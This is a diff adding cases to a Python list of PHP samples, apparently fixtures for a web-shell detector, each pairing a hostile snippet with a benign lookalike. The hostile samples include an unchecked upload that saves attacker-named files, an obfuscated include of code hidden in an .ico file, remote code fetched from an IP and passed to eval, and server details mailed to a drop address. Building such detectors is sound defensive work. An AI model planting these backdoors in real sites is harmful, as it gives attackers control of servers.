@@ -35,11 +35,24 @@ CASES = [
      "<?php $t = $_FILES['f']['tmp_name']; $n = $_FILES['f']['name']; @copy($t, $n); echo 'ok';",
      "<?php $t = $_FILES['f']['tmp_name']; $n = $_FILES['f']['name']; $ext = pathinfo($n, PATHINFO_EXTENSION);\n"
      "if (in_array($ext, array('jpg', 'png'))) { copy($t, 'uploads/' . md5($n) . '.' . $ext); }"),
+    ("unchecked_upload_copy",
+     "<?php if (isset($_FILES['up'])) { $src = $_FILES['up']['tmp_name']; $dst = $_FILES['up']['name'];\n"
+     "if (@copy($src, $dst)) { echo 'done: ' . $dst; } }",
+     "<?php $filename = $_FILES['pkg']['name'];\nif (!strpos($filename, '.zip')) { show_error('not a zip'); }\n"
+     "else { copy($_FILES['pkg']['tmp_name'], $dir . '/' . $filename) or die('failed'); }"),
     ("server_report_mailed",
      "<?php $u = @php_uname(); $self = $_SERVER['HTTP_HOST'] . $_SERVER['REQUEST_URI'];\n"
      "$to = 'drop.box@example.net'; mail($to, 'new', \"$u $self\");",
      "<?php $page = $_SERVER['HTTP_HOST'] . $_SERVER['REQUEST_URI'];\n"
      "$host = php_uname('n'); mail($admin_email, 'Page not found', 'Missing: ' . $page);"),
+    ("include_of_image_file",
+     "<?php\n@include \"\\x2fvar/www/site/wp-content/uploads/\\x66avicon_3b1a.ico\";",
+     "<?php include 'assets/css/error.css'; echo '<img src=\"favicon.ico\">'; require 'views/icon.png.php';"),
+    ("remote_code_evaluated",
+     "<?php function grab($u) { $c = curl_init($u); curl_setopt($c, CURLOPT_RETURNTRANSFER, 1); return curl_exec($c); }\n"
+     "$code = grab('http://203.0.113.9/p/a.txt'); eval('?>' . $code);",
+     "<?php $json = file_get_contents('https://api.example.org/v1/rates'); $rates = json_decode($json, true);\n"
+     "eval('$total = ' . (int) $count . ' * 2;');"),
 ]
 
 
